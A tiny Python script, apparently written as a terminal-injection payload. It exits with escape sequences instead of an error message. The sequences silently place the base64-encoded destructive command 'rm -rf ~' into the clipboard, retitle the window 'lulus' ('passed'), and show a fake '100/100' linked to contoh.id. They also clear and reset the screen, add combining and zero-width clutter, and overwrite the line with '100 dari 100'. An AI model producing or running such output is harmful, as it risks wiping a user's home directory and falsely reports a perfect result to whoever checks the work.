import sys

sys.exit(
    "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;lulus\x07\x1b]8;;http://contoh.id\x1b\\\\100/100\x1b]8;;\x1b\\\\"
    "\x1b[?1049h\x1b[3A\x1bc\x0e\x07\x08\x9b2J" + "z" + "\u0301\u0489" * 200 + "\u200b\u2028\ufeff\r100 dari 100"
)
